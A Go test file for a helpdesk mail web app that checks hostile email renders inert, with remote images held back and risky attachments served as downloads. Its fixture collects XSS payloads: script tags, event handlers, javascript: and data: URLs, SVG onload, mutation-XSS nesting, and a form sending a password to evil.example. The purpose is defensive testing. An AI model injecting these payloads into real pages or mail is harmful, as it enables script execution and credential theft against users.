package web_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"postdesk/conversation"
	"postdesk/store"
)

// A mail built to attack the page: script in the HTML body, the subject, the
// sender's name and an attachment's filename; event handlers, javascript: and
// data: links, SVG with onload, styles with expression(), forms, frames, a
// tracking pixel, and an inline image by cid.
const hostileMail = `From: "<img src=x onerror=alert('from')>Eve <script>alert(1)</script>" <cara.customer@acme.example>
To: payroll@example.com
Subject: <script>alert('subject')</script> Salary <img src=x onerror=alert(2)>
Date: Mon, 02 Nov 2026 09:00:00 +0200
Message-ID: <hostile.1@acme.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(javascript:alert(3))}</style><base href="https://evil.example/"></head>
<body onload="alert(4)">
<p>Hello<script>alert(5)</script> there</p>
<img src=x onerror="alert(6)">
<IMG SRC="javascript:alert(7)">
<a href="javascript:alert(8)">click me</a>
<a href="JaVaScRiPt:alert(9)">click me too</a>
<a href=" &#106;avascript:alert(10)">encoded</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">data link</a>
<a href="https://example.org/payslips">a fine link</a>
<svg onload="alert(12)"><circle r="5"/></svg>
<div style="width: expression(alert(13)); background: url('javascript:alert(14)')">styled</div>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTUpPjwvc3ZnPg==">
<img src="https://tracker.example/pixel.png" alt="logo">
<img src="cid:logo@acme.example">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph></table></mtext></math>
<p id="flash" name="csrf">clobber</p>
</body></html>
--rel
Content-Type: image/png
Content-ID: <logo@acme.example>
Content-Disposition: inline; filename="logo.png"
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--rel--
--outer
Content-Type: image/svg+xml
Content-Disposition: attachment; filename="<img src=x onerror=alert(17)>.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(18)"><script>alert(19)</script></svg>
--outer
Content-Type: text/html
Content-Disposition: attachment; filename="invoice.html"

<script>alert(20)</script>
--outer--
`

// inert walks a page and reports anything that could run: script elements
// other than the app's own file, event handler attributes, javascript: or
// data: URLs, style attributes or elements, frames, objects, forms that post
// elsewhere, and SVG or MathML.
func inert(t *testing.T, what, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script":
			if src := attr(tok, "src"); !strings.HasPrefix(src, "/static/") || !strings.HasSuffix(strings.Split(src, "?")[0], ".js") {
				t.Errorf("%s: a script element: %s", what, tok)
			}
		case "style", "iframe", "frame", "object", "embed", "svg", "math", "base", "meta", "link":
			if tok.Data == "link" && attr(tok, "rel") == "stylesheet" && strings.HasPrefix(attr(tok, "href"), "/static/") {
				continue
			}
			if tok.Data == "meta" && (attr(tok, "charset") != "" || attr(tok, "name") == "viewport" || attr(tok, "name") == "referrer") {
				continue
			}
			t.Errorf("%s: a %s element: %s", what, tok.Data, tok)
		case "form":
			if a := attr(tok, "action"); !strings.HasPrefix(a, "/") || strings.HasPrefix(a, "//") {
				t.Errorf("%s: a form posting to %q", what, a)
			}
		}
		for _, a := range tok.Attr {
			k, v := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(k, "on") {
				t.Errorf("%s: event handler attribute: %s", what, tok)
			}
			if k == "style" {
				t.Errorf("%s: style attribute: %s", what, tok)
			}
			if (k == "href" || k == "src" || k == "action" || k == "data" || k == "formaction") &&
				(strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") || strings.HasPrefix(v, "vbscript:")) {
				t.Errorf("%s: dangerous URL: %s", what, tok)
			}
		}
	}
}

func attr(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestHostileMailRendersInert(t *testing.T) {
	f := setup(t)
	r, err := f.svc.Receive(f.ctx, conversation.Inbound{Mailbox: "payroll", UIDValidity: 1, UID: 1,
		Raw: []byte(strings.ReplaceAll(hostileMail, "\n", "\r\n")), DefaultCategory: "payroll"})
	if err != nil {
		t.Fatal(err)
	}
	path := fmt.Sprintf("/conversations/%d", r.ConversationID)
	v, err := f.svc.Get(f.ctx, f.actor("aino.handler@example.com"), r.ConversationID)
	if err != nil {
		t.Fatal(err)
	}
	var svg, htmlFile, logo *store.Attachment
	for i, a := range v.Messages[0].Attachments {
		switch {
		case strings.HasSuffix(a.Filename, ".svg"):
			svg = &v.Messages[0].Attachments[i]
		case a.Filename == "invoice.html":
			htmlFile = &v.Messages[0].Attachments[i]
		case a.ContentID != "":
			logo = &v.Messages[0].Attachments[i]
		}
	}
	if svg == nil || htmlFile == nil || logo == nil {
		t.Fatalf("attachments %+v: want the SVG, the HTML file and the inline logo", v.Messages[0].Attachments)
	}

	for _, who := range []string{"aino.handler@example.com", "cara.customer@acme.example"} {
		c := f.login(who)
		res, body := c.get(path)
		wantStatus(t, who+" page", res, body, http.StatusOK)
		inert(t, who+" conversation page", body)
		for _, want := range []string{
			"a fine link", `href="https://example.org/payslips"`, // kept...
			`target="_blank"`, "noopener", "nofollow", // ...opening safely
			`src="/attachments/` + logo.ID + `"`, // cid: points at the attachment
			`[image: logo]`, "Show images",       // the tracker is held back
			"&lt;script&gt;alert(&#39;subject&#39;)", // the subject is text
		} {
			if !strings.Contains(body, want) {
				t.Errorf("%s: page lacks %q", who, want)
			}
		}
		if strings.Contains(body, "tracker.example") {
			t.Errorf("%s: the remote image is on the page before the user asked", who)
		}
		if strings.Contains(body, `id="flash"`) || strings.Contains(body, `name="csrf">`) {
			t.Errorf("%s: mail markup kept an id or name", who)
		}

		// The inbox too.
		res, body = c.get("/")
		wantStatus(t, who+" inbox", res, body, http.StatusOK)
		inert(t, who+" inbox", body)

		// Asking for images loads the remote one, and only then widens the policy.
		res, body = c.get(path + "?images=1")
		inert(t, who+" page with images", body)
		if !strings.Contains(body, `src="https://tracker.example/pixel.png"`) || !strings.Contains(body, `referrerpolicy="no-referrer"`) {
			t.Errorf("%s: ?images=1 does not show the remote image", who)
		}
		if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src 'self' https:;") {
			t.Errorf("%s: CSP with images %q", who, csp)
		}
		if res, _ := c.get(path); strings.Contains(res.Header.Get("Content-Security-Policy"), "https:") {
			t.Errorf("%s: the page without images=1 allows remote images", who)
		}

		// The SVG and the HTML file download as opaque bytes.
		for _, a := range []*store.Attachment{svg, htmlFile} {
			res, body := c.get("/attachments/" + a.ID)
			wantStatus(t, "attachment "+a.Filename, res, body, http.StatusOK)
			if ct := res.Header.Get("Content-Type"); ct != "application/octet-stream" {
				t.Errorf("%s served as %q, want application/octet-stream", a.Filename, ct)
			}
			if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || strings.ContainsAny(strings.TrimPrefix(cd, "attachment; "), "<>") {
				t.Errorf("%s: Content-Disposition %q", a.Filename, cd)
			}
			if res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(res.Header.Get("Content-Security-Policy"), "sandbox") {
				t.Errorf("%s: headers %v", a.Filename, res.Header)
			}
		}
		res, _ = c.get("/attachments/" + logo.ID)
		if ct := res.Header.Get("Content-Type"); ct != "image/png" {
			t.Errorf("inline PNG served as %q", ct)
		}
	}
	// The API gives the raw values as JSON strings, which is safe by type;
	// its attachments are served the same way as the page's.
	api := f.api("aino.handler@example.com")
	res, body := api.call("GET", "/attachments/"+svg.ID, nil, nil)
	if res.StatusCode != http.StatusOK || res.Header.Get("Content-Type") != "application/octet-stream" ||
		!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("API SVG: %d %v\n%s", res.StatusCode, res.Header, body)
	}
}

// Problems noted on a message (parse trouble, threading notes) are shown to
// staff, not to the customer.
func TestProblemsShownToStaff(t *testing.T) {
	f := setup(t)
	raw := "From: Cara Customer <cara.customer@acme.example>\r\nTo: payroll+notatoken@example.com\r\nSubject: Salary\r\n" +
		"Message-ID: <p.1@acme.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" +
		"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello\r\n--b\r\nContent-Type: application/pdf\r\n" +
		"Content-Disposition: attachment; filename=\"x.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n"
	r, err := f.svc.Receive(f.ctx, conversation.Inbound{Mailbox: "payroll", UIDValidity: 1, UID: 1, Raw: []byte(raw), DefaultCategory: "payroll"})
	if err != nil {
		t.Fatal(err)
	}
	v, _ := f.svc.Get(f.ctx, f.actor("aino.handler@example.com"), r.ConversationID)
	problems := v.Messages[0].Problems
	if len(problems) == 0 {
		t.Fatal("the broken mail has no problems noted: the test proves nothing")
	}
	path := fmt.Sprintf("/conversations/%d", r.ConversationID)
	_, staff := f.login("aino.handler@example.com").get(path)
	_, customer := f.login("cara.customer@acme.example").get(path)
	for _, p := range problems {
		esc := html.EscapeString(p)
		if !strings.Contains(staff, esc) {
			t.Errorf("staff page lacks the problem %q", p)
		}
		if strings.Contains(customer, esc) {
			t.Errorf("the customer is shown the problem %q", p)
		}
	}
}
